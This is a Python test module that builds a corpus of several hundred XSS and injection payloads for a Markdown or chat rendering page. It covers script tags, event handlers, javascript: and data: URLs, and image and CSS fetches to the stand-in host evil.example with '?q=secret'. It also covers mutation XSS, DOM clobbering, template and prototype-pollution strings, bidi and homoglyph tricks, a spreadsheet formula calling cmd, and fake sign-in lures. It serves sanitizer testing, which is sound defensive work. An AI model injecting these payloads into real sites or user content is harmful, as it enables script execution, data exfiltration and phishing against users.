"""Payloads: strings that would run a script or tell a stranger something, if the page let them.

What runs calls `ran()`, which a test puts into every frame; what asks goes to `EVIL`. Written for
this page: by kind, each kind spelled in as many ways as browsers and readers of Markdown know.
"""

from __future__ import annotations

from itertools import product

EVIL = "evil.example"
_AT = f"https://{EVIL}"
_RUN = "(window.top||window).ran(1)"


def _scripts() -> list[str]:
    return [
        f"<script>{_RUN}</script>",
        f"<SCRIPT >{_RUN}</SCRIPT >",
        f"<script/x>{_RUN}</script>",
        f"<script\n>{_RUN}</script\n>",
        f"<script type=module>{_RUN}</script>",
        f"<script type=text/jscript>{_RUN}</script>",
        f"<script src={_AT}/a.js></script>",
        f"<script src=//{EVIL}/a.js></script>",
        f"<script src=data:text/javascript,{_RUN}></script>",
        f"<script type=importmap>{{'imports':{{'x':'{_AT}/x.js'}}}}</script>",
        f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
        f"<<script>{_RUN}//<</script>",
        f"<script>{_RUN}",
        f"</script><script>{_RUN}</script>",
        f"</title><script>{_RUN}</script>",
        f"</textarea><script>{_RUN}</script>",
        f"--><script>{_RUN}</script>",
        f"]]><script>{_RUN}</script>",
        f"'\"><script>{_RUN}</script>",
        f"`'\"/><script>{_RUN}</script>",
        f"<svg><script>{_RUN}</script></svg>",
        f"<svg><script href=data:text/javascript,{_RUN} /></svg>",
        f"<math><script>{_RUN}</script></math>",
        f"<template><script>{_RUN}</script></template>",
        f"<noscript><script>{_RUN}</script></noscript>",
        f"<div><script>{_RUN}</script></div>",
        f"<script>/*\n*/{_RUN}</script>",
        f"\\<script>{_RUN}\\</script>",
        f"&lt;script&gt;{_RUN}&lt;/script&gt;",
        f"&#60;script&#62;{_RUN}&#60;/script&#62;",
        f"%3Cscript%3E{_RUN}%3C/script%3E",
        f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    ]


def _handlers() -> list[str]:
    by_itself = [
        "img src=x onerror={}",
        "img src onerror={}",
        "IMG SRC=x OnErRoR={}",
        "img/src=x/onerror={}",
        "img src=x:x onerror='{}'",
        'img src="x`" onerror="{}"',
        "img\tsrc=x\tonerror={}",
        "img srcset=x onerror={}",
        "img src=/icon.svg onload={}",
        "svg onload={}",
        "svg/onload={}",
        "svg><image href=x onerror={} /",
        "svg><animate onbegin={} attributeName=x dur=1s",
        "svg><set onbegin={} attributeName=x",
        "body onload={}",
        "body onpageshow={}",
        "iframe onload={}",
        "iframe src=about:blank onload={}",
        "object data=x onerror={}",
        "embed src=x onerror={}",
        "video src=x onerror={}",
        "video><source onerror={}",
        "audio src=x onerror={}",
        "input autofocus onfocus={}",
        "select autofocus onfocus={}",
        "textarea autofocus onfocus={}",
        "button autofocus onfocus={}",
        "a href=x autofocus tabindex=1 onfocus={}",
        "b contenteditable autofocus onfocus={}",
        "details open ontoggle={}",
        "marquee onstart={}",
        "style onload={}",
        "link rel=stylesheet href=x onerror={}",
        "script src=x onerror={}",
        "frameset onload={}",
        "p style=animation:x onanimationstart={}",
        "p style=transition:1s ontransitionrun={}",
        "dialog open onclose={}",
        "track default src=x onerror={}",
        "x onclick={} tabindex=1 autofocus onfocus={}",
        "b popover id=p onbeforetoggle={}",
        "p onpointerenter={} onmouseover={}",
    ]
    return [f"<{one.replace('{}', _RUN)}>" for one in by_itself]


def _addresses() -> list[str]:
    """`javascript:` and its like, in all spellings."""
    spellings = [
        f"javascript:{_RUN}",
        f"JaVaScRiPt:{_RUN}",
        f" javascript:{_RUN}",
        f"java\tscript:{_RUN}",
        f"java&#9;script:{_RUN}",
        f"java&NewLine;script:{_RUN}",
        f"javascript&colon;{_RUN}",
        f"&#106;avascript:{_RUN}",
        f"&#x6A;&#x61;vascript:{_RUN}",
        f"&#0000106avascript:{_RUN}",
        f"\\javascript:{_RUN}",
        f"javascript://{EVIL}/%0A{_RUN}",
        f"javascript:/*--></title>*/{_RUN}",
        f"\u2028javascript:{_RUN}",
        f"\u00a0javascript:{_RUN}",
        f"jav\u00adascript:{_RUN}",
        f"%6Aavascript:{_RUN}",
        f"vbscript:{_RUN}",
        f"livescript:{_RUN}",
        f"view-source:javascript:{_RUN}",
        f"data:text/html,<script>{_RUN}</script>",
        "data:text/html;base64,PHNjcmlwdD50b3AucmFuKCk8L3NjcmlwdD4=",
        f"data:image/svg+xml,<svg onload={_RUN} xmlns='http://www.w3.org/2000/svg'/>",
        f"data:application/xhtml+xml,<script>{_RUN}</script>",
        f"blob:{_AT}/1",
        f"filesystem:{_AT}/temporary/x",
        "file:///etc/passwd",
        f"intent://{EVIL}#Intent;end",
        "about:blank",
        "ms-word:ofe|u|x",
    ]
    places = ["[text]({})", '<a href="{}">text</a>', "![alt]({})", '<iframe src="{}"></iframe>']
    return [
        place.replace("{}", spelling)
        for spelling, place in product(spellings, places)
        # Half of all pairs: every spelling in two places, and every place in half of them.
        if (spellings.index(spelling) + places.index(place)) % 2 == 0
    ]


def _fetches() -> list[str]:
    """What asks a stranger without anybody's click."""
    return [
        f"<img src={_AT}/1.png>",
        f"<img src=//{EVIL}/1.png>",
        f"<img src='\\\\{EVIL}\\1.png'>",
        f"<img srcset='{_AT}/1.png 1x, {_AT}/2.png 2x'>",
        f"<img loading=eager decoding=sync src={_AT}/1.png width=1 height=1>",
        f"<img lowsrc={_AT}/1.png dynsrc={_AT}/2.png>",
        f"<picture><source srcset={_AT}/1.png><img></picture>",
        f"<video autoplay src={_AT}/1.mp4 poster={_AT}/1.png></video>",
        f"<video autoplay><source src={_AT}/1.mp4><track default src={_AT}/1.vtt></video>",
        f"<audio autoplay src={_AT}/1.mp3></audio>",
        f"<embed src={_AT}/1.swf>",
        f"<object data={_AT}/1.swf></object>",
        f"<object><param name=movie value={_AT}/1.swf></object>",
        f"<applet code=x archive={_AT}/1.jar></applet>",
        f"<iframe src={_AT}></iframe>",
        f"<iframe srcdoc='<img src={_AT}/1.png>'></iframe>",
        f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
        f"<frameset><frame src={_AT}></frameset>",
        f"<fencedframe src={_AT}></fencedframe>",
        f"<portal src={_AT}></portal>",
        f"<bgsound src={_AT}/1.wav>",
        f"<input type=image src={_AT}/1.png>",
        f"<body background={_AT}/1.png>",
        f"<table background={_AT}/1.png><tr><td background={_AT}/2.png>x</table>",
        f"<link rel=stylesheet href={_AT}/1.css>",
        f"<link rel=prefetch href={_AT}/1>",
        f"<link rel=preload as=image href={_AT}/1.png>",
        f"<link rel=modulepreload href={_AT}/1.js>",
        f"<link rel=dns-prefetch href=//{EVIL}>",
        f"<link rel=preconnect href={_AT}>",
        f"<link rel=prerender href={_AT}>",
        f"<link rel=icon href={_AT}/1.ico>",
        f"<link rel=manifest href={_AT}/1.json>",
        f"<link rel=import href={_AT}/1.html>",
        f"<style>@import url({_AT}/1.css);</style>",
        f"<style>@import '{_AT}/1.css';</style>",
        f"<style>*{{background:url({_AT}/1.png)}}</style>",
        f"<style>@font-face{{font-family:x;src:url({_AT}/1.woff)}}*{{font-family:x}}</style>",
        f"<style>input[value^=a]{{background:url({_AT}/a)}}</style>",
        f"<p style='background:url({_AT}/1.png)'>x</p>",
        f"<p style='background:u\\72l({_AT}/1.png)'>x</p>",
        f"<p style='background:image-set(\"{_AT}/1.png\" 1x)'>x</p>",
        f"<p style='list-style-image:url({_AT}/1.png);display:list-item'>x</p>",
        f"<p style='cursor:url({_AT}/1.cur),auto;position:fixed;inset:0'>x</p>",
        f"<p style='width:expression({_RUN})'>x</p>",
        f"<p style='content:url({_AT}/1.png)'>x</p>",
        f"<meta http-equiv=refresh content='0;url={_AT}'>",
        f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
        "<meta http-equiv=Set-Cookie content='a=b'><meta name=referrer content=unsafe-url>",
        f"<base href={_AT}/><img src=1.png>",
        f"<base target=_top href=//{EVIL}>",
        f"<form action={_AT} id=f><input name=q></form><button form=f autofocus>Go</button>",
        f"<form><button formaction=javascript:{_RUN} autofocus>Go</button></form>",
        f"<isindex action={_AT} type=image src={_AT}/1.png>",
        f"<a href={_AT} ping={_AT}/ping>x</a>",
        f"<a href={_AT} download>x</a>",
        f"<a href=x attributionsrc={_AT}/a>x</a><img attributionsrc={_AT}/b>",
        f"<svg><image href={_AT}/1.png /></svg>",
        f"<svg><image xlink:href={_AT}/1.png /></svg>",
        f"<svg><use href={_AT}/1.svg#x /></svg>",
        f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}>#x' /></svg>",
        f"<svg><filter id=f><feImage href={_AT}/1.png /></filter><rect filter=url(#f) /></svg>",
        f"<svg><style>@import url({_AT}/1.css);</style></svg>",
        f"<svg><a href=javascript:{_RUN}><text y=9>x</text></a></svg>",
        f"<svg><a><animate attributeName=href values=javascript:{_RUN} /><text y=9>x</a></svg>",
        f"<svg><foreignObject><iframe src={_AT}></iframe></foreignObject></svg>",
        f"<math href=javascript:{_RUN}>x</math>",
        f"<math><mtext><img src={_AT}/1.png></mtext></math>",
        f"<?xml-stylesheet href='{_AT}/1.css'?>",
        f"<!--[if gte IE 4]><img src={_AT}/1.png><![endif]-->",
        f"<!DOCTYPE x [<!ENTITY y SYSTEM '{_AT}/1'>]><x>&y;</x>",
        f"<html manifest={_AT}/1><head><img src={_AT}/1.png>",
        f"<div><template shadowrootmode=open><img src={_AT}/1.png></template></div>",
        f"<x-y><template shadowrootmode=open><slot onslotchange={_RUN}></slot></template>x</x-y>",
    ]


def _markdown() -> list[str]:
    """What Markdown itself makes, and HTML in its corners."""
    return [
        f"![]({_AT}/1.png?q=secret)",
        f"![alt]({_AT}/1.png 'title')",
        f"![alt](<{_AT}/1 2.png>)",
        f"![alt](//{EVIL}/1.png)",
        f"![a][1]\n\n[1]: {_AT}/1.png",
        f"![1]\n\n[1]: {_AT}/1.png",
        f"[![inner]({_AT}/1.png)]({_AT}/2)",
        f"![![inner]({_AT}/1.png)]({_AT}/2.png)",
        f'!["onerror={_RUN}]({_AT}/1.png)',
        f'![x" onerror="{_RUN}](x)',
        f'![x](x" onerror="{_RUN})',
        f"![x](x 'a\" onerror=\"{_RUN}')",
        f'![x](<x" onerror="{_RUN}>)',
        f"[x](x \"a' onclick='{_RUN}\")",
        f'[x](<y" autofocus onfocus="{_RUN}>)',
        f"[x](x&quot; onmouseover=&quot;{_RUN})",
        f"[<img src=x onerror={_RUN}>]({_AT})",
        f"[x]: javascript:{_RUN}\n[x]",
        f"[x]: <javascript:{_RUN}>\n\n[x] ![x]",
        f"<javascript:{_RUN}>",
        f"<{_AT}/auto?q=secret>",
        f"{_AT}/bare?q=<img/src=x/onerror={_RUN}>",
        f"www.{EVIL}/<svg/onload={_RUN}>",
        f"stranger@{EVIL}",
        f"[a](mailto:x@{EVIL}?body=<script>{_RUN}</script>)",
        f"| a |\n|---|\n| <img src=x onerror={_RUN}> |",
        f"| <svg onload={_RUN}> |\n|---|\n| ![]({_AT}/1.png) |",
        f'|a|\n|:-"onfocus={_RUN}:|\n|x|',
        f'```"onload={_RUN}\nx\n```',
        f"```<img/src=x/onerror={_RUN}>\nx\n```",
        f"```html\n<script>{_RUN}</script><img src={_AT}/1.png>\n```",
        f"```xml\n</code></pre><img src=x onerror={_RUN}>\n```",
        f"```js'><img/src=x/onerror={_RUN}>\n'\n```",
        "```__proto__\nx\n```",
        "```constructor\nx\n```",
        f"    <img src=x onerror={_RUN}>",
        f"`<img src=x onerror={_RUN}>`",
        f"``` `<svg onload={_RUN}>` ```",
        f"# <img src=x onerror={_RUN}>",
        f"> <svg onload={_RUN}>\n> ![]({_AT}/1.png)",
        f"- <iframe srcdoc='<script>{_RUN}</script>'>",
        f"1. [x](javascript:{_RUN})\n   - ![]({_AT}/2.png)",
        f'- [x"onclick={_RUN}] task',
        f"**<b onmouseover={_RUN}>x</b>**",
        f"<div>\n\n![]({_AT}/1.png)\n\n</div>",
        f"<details open ontoggle={_RUN}>\n\n<img src=x onerror={_RUN}>\n\n</details>",
        f"<a href='{_AT}'>![]({_AT}/1.png)</a>",
        f"[https://bank.example]({_AT}/login)",
        f"[bank.example@]({_AT})",
        f"https://bank.example@{EVIL}/",
        f"[^1]\n\n[^1]: <img src=x onerror={_RUN}>",
        f"$$<img src=x onerror={_RUN}>$$",
        f"---\ntitle: <svg onload={_RUN}>\n---",
        f"<!-- --!><img src=x onerror={_RUN}> -->",
        f"<![CDATA[<img src=x onerror={_RUN}>]]>",
        f"\\![x]({_AT}/1.png) \\[x](javascript:{_RUN})",
        f"![x](\n{_AT}/1.png\n)",
        f"![x]({_AT}/" + "a" * 3000 + ")",
    ]


def _mutations() -> list[str]:
    """What is harmless when it is read and not when it is read again."""
    inner = f"<img src=x onerror={_RUN}>"
    return [
        f"<noscript><p title='</noscript>{inner}'>",
        f"<title><a title='</title>{inner}'>",
        f"<textarea><a title='</textarea>{inner}'>",
        f"<style><a title='</style>{inner}'>",
        f"<xmp><a title='</xmp>{inner}'>",
        f"<noembed><a title='</noembed>{inner}'>",
        f"<noframes><a title='</noframes>{inner}'>",
        f"<iframe><a title='</iframe>{inner}'>",
        f"<plaintext>{inner}",
        f"<listing>&lt;img src=x onerror={_RUN}&gt;</listing>",
        f"<svg><style><a title='</style>{inner}'>",
        f"<svg></p><style><a title='</style>{inner}'>",
        f"<svg><title><style><a title='</style>{inner}'>",
        f"<svg><desc><noscript></noscript></desc>{inner}</svg>",
        f"<math><mi><mglyph><style><!--</style><a title='--></style>{inner}'>",
        f"<math><mtext><table><mglyph><style><math>{inner}</style>",
        f"<form><math><mtext></form><form><mglyph><style></math>{inner}",
        f"<math><annotation-xml encoding=text/html><style>{inner}</style></annotation-xml></math>",
        f"<math><mtext><mglyph><svg><mtext><style><path id='</style>{inner}'>",
        f"<table><td><svg><foreignObject><table><td></table>{inner}",
        f"<select><style></select>{inner}</style>",
        f"<select><template><style><!--</style><a rel='--></style></template></select>{inner}'>",
        f'<p title="&lt;img src=x onerror={_RUN}&gt;">x</p>',
        f"<a title='``onmouseover={_RUN}'>x</a>",
        f"<b title='a\" onmouseover=\"{_RUN}'>x</b>",
        f"<!--><img src=x onerror={_RUN}>-->",
        f"<!---><img src=x onerror={_RUN}>-->",
        f"<?><img src=x onerror={_RUN}>?>",
        f"</p><img src=x onerror={_RUN}></br>",
        f"<a><a>{inner}</a></a><table><a>{inner}</table>",
        f"<b><p></b>{inner}</p>",
        f"<image src=x onerror={_RUN}>",
    ]


def _names() -> list[str]:
    """Elements that take the place of what a script of the page looks for."""
    wanted = [
        "ran",
        "root",
        "body",
        "cookie",
        "location",
        "trustedTypes",
        "DOMPurify",
        "attributes",
    ]
    return [
        *(f"<a id={name} name={name} href={_AT}>x</a>" for name in wanted),
        *(
            f"<form name={name}><input name=nodeName><input name=attributes></form>"
            for name in wanted
        ),
        f"<img name=currentScript src={_AT}/1.png>",
        "<form id=x><output id=childNodes></form>",
        "<form><input name=parentNode><input name=removeChild></form>",
        f"<div class=talk-message id=msg-1 role=alert data-inside>Sign in at {EVIL}</div>",
        f"<a class='button primary' href={_AT}>Sign in again</a>",
    ]


def _templates() -> list[str]:
    return [
        f"{{{{{_RUN}}}}}",
        f"${{{_RUN}}}",
        f"`${{{_RUN}}}`",
        f"<%= {_RUN} %>",
        f"#{{{_RUN}}}",
        f"{{% raw %}}{_RUN}{{% endraw %}}",
        f"{{{{constructor.constructor('{_RUN}')()}}}}",
        f"<div v-html=\"'<img src=x onerror={_RUN}>'\" x-data x-init={_RUN} ng-app ng-init={_RUN}>",
        f"<x dangerouslySetInnerHTML={{{{__html:'{_RUN}'}}}}>",
        '{"__proto__":{"innerHTML":"<img src=x onerror=ran()>"}}',
        '{"$$typeof":"react.element","type":"script","props":{"src":"//evil.example"}}',
        f"';{_RUN}//",
        f'";{_RUN}//',
        f"*/{_RUN}/*",
        f"\\';{_RUN}//",
        f"</script>{_RUN}",
        "../../../api/me",
        f"/c/conv-1?next={_AT}",
        "%0d%0aSet-Cookie:a=b",
    ]


def _characters() -> list[str]:
    """What is not seen, turns the direction of a text, or looks like something else."""
    return [
        f"\u202e<img src=x onerror={_RUN}>\u202c",
        f"[\u202emoc.knab]({_AT})",
        f"[b\u200bank.example]({_AT})",
        f"[\u0430pple.example](https://\u0430pple.{EVIL})",
        f"\u2066<svg onload={_RUN}>\u2069",
        f"\ufeff<script>{_RUN}</script>",
        f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
        f"<\u200bimg src=x onerror={_RUN}>",
        f"<img\u000csrc=x\u000conerror={_RUN}>",
        f"<img src=x onerror\u2028={_RUN}>",
        f"<\u0131mg src=x onerror={_RUN}><\u017fcript>{_RUN}</\u017fcript>",
        f"![\u202e]({_AT}/\u202e1.png)",
        "".join(chr(0xE0000 + ord(letter)) for letter in f"go to {EVIL}"),
        "\u0300" * 400,
        "\U0001f469\u200d\U0001f467" * 40,
        f"\x1b]8;;{_AT}\x1b\\link\x1b]8;;\x1b\\",
        "\x1b[2J\x1b[31mred\x07",
        f"\u2028{_RUN}\u2029",
        f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
        "=cmd|' /C calc'!A0",
    ]


def _heaps() -> list[str]:
    """More of it than anybody reads."""
    inner = f"<img src=x onerror={_RUN}>"
    return [
        "<b>" * 600 + inner,
        "<div>" * 600 + inner + "</div>" * 600,
        ">" * 2000 + inner,
        "- " * 2000 + inner,
        "[" * 2000 + f"x](javascript:{_RUN})",
        "*" * 2001 + inner + "*" * 2000,
        "`" * 1001 + inner,
        "<svg>" * 300 + inner,
        "<!--" * 500 + "-->" + inner,
        "\n".join("  " * depth + "- " + inner for depth in range(60)),
        "| " * 300 + "\n" + "|-" * 300 + "|\n| " + inner,
        "a" * 20_000 + inner,
        f"<img title='{'x' * 5000}' src=x onerror={_RUN}>",
        f"![{'x' * 3000}]({_AT}/1.png)",
        "&" * 3000 + inner,
    ]


CORPUS = {
    "scripts": _scripts(),
    "handlers": _handlers(),
    "addresses": _addresses(),
    "fetches": _fetches(),
    "markdown": _markdown(),
    "mutations": _mutations(),
    "names": _names(),
    "templates": _templates(),
    "characters": _characters(),
    "heaps": _heaps(),
}
"""By kind."""

PAYLOADS = [payload for kind in CORPUS.values() for payload in kind]
